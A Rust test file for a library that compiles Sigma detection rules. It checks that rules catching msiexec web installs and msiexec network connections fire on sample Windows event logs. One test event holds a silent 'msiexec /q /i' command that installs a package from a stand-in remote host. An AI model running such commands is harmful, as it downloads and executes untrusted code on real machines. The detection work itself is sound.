//! The seed rules compiled from YAML by `sigma_rules!`: generated code and the
//! interpreter agree, on hand-written events and on the real events.

use detect::JsonEvent;
use detect::interpreter::Interpreter;
use detect_sigmahq::Seeds;
use detect_test_support::shared_data;

fn run(line: &str) -> Vec<&'static str> {
    let interp = Interpreter::new(&Seeds::ir()).unwrap();
    let ev = JsonEvent::parse_str(line).unwrap();
    let mut hits = Vec::new();
    Seeds::scan(&ev, |r| hits.push(r.index));
    let mut unfiltered = Vec::new();
    Seeds::scan_unfiltered(&ev, |r| unfiltered.push(r.index));
    assert_eq!(hits, unfiltered);
    assert_eq!(hits, interp.matches(&ev));
    hits.into_iter().map(|i| Seeds::RULES[i].name).collect()
}

#[test]
fn seeds_compile_with_metadata() {
    assert_eq!(Seeds::LEN, 3);
    assert!(Seeds::SKIPPED.is_empty());
    let r = Seeds::rule("net_connection_win_msiexec_http").unwrap();
    assert_eq!(r.id, Some("8e5e38e4-5350-4c0b-895a-e872ce0dd54f"));
    assert_eq!(r.level, detect::ir::Level::Low);
    assert_eq!(r.logsource.category, Some("network_connection"));
    assert_eq!(
        Seeds::SOURCES[2],
        "rules/net_connection_win_msiexec_http.yml"
    );
}

#[test]
fn seeds_fire_on_their_log_sources_in_every_layout() {
    let cl = r#"cmd /c msiexec /q /i https:\\/\\/e.example/x.msi"#;
    assert_eq!(
        run(&format!(
            r#"{{"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "CommandLine": "{cl}"}}"#
        )),
        ["msiexec_web_install_1"]
    );
    assert_eq!(
        run(&format!(
            r#"{{"Event": {{"System": {{"Channel": "Security", "EventID": 4688}}, "EventData": {{"CommandLine": "{cl}"}}}}}}"#
        )),
        ["msiexec_web_install_2"]
    );
    assert_eq!(
        run(
            r#"{"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 3, "Initiated": "true",
            "Image": "C:\\Windows\\SysWOW64\\MSIEXEC.EXE", "DestinationPort": 443}"#
        ),
        ["net_connection_win_msiexec_http"]
    );
    assert_eq!(
        run(
            r#"{"winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 3,
            "event_data": {"Initiated": "true"}}, "process": {"executable": "C:\\Windows\\System32\\msiexec.exe"},
            "destination": {"port": 80}}"#
        ),
        ["net_connection_win_msiexec_http"]
    );
    assert!(run(r#"{"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 3, "Initiated": "true",
            "Image": "C:\\Windows\\System32\\msiexec.exe", "DestinationPort": 8080}"#).is_empty());
}

#[test]
#[ignore = "needs ../shared (run with --ignored)"]
fn seeds_agree_with_interpreter_on_real_events() {
    let path = shared_data("events/windows-samples.ndjson");
    let interp = Interpreter::new(&Seeds::ir()).unwrap();
    let mut ev = JsonEvent::new();
    let mut n = 0;
    for line in std::fs::read_to_string(path)
        .unwrap()
        .lines()
        .filter(|l| !l.trim().is_empty())
    {
        ev.parse(line.as_bytes()).unwrap();
        let mut hits = Vec::new();
        Seeds::scan(&ev, |r| hits.push(r.index));
        assert_eq!(hits, interp.matches(&ev), "{line}");
        n += hits.len();
    }
    println!("seed rules fired {n} times");
}

detect::sigma_rules! {
    /// The two seed files listed explicitly, in the opposite order of the folder.
    ruleset Listed = [
        "rules/net_connection_win_msiexec_http.yml",
        "rules/msiexec_web_install.yml",
        "rules",
    ];
}

#[test]
fn a_list_of_paths_keeps_its_order_and_reads_each_file_once() {
    assert_eq!(
        Listed::SOURCES,
        [
            "rules/net_connection_win_msiexec_http.yml",
            "rules/msiexec_web_install.yml",
            "rules/msiexec_web_install.yml",
        ]
    );
    let names: Vec<&str> = Listed::RULES.iter().map(|r| r.name).collect();
    assert_eq!(
        names,
        [
            "net_connection_win_msiexec_http",
            "msiexec_web_install_1",
            "msiexec_web_install_2"
        ]
    );
}
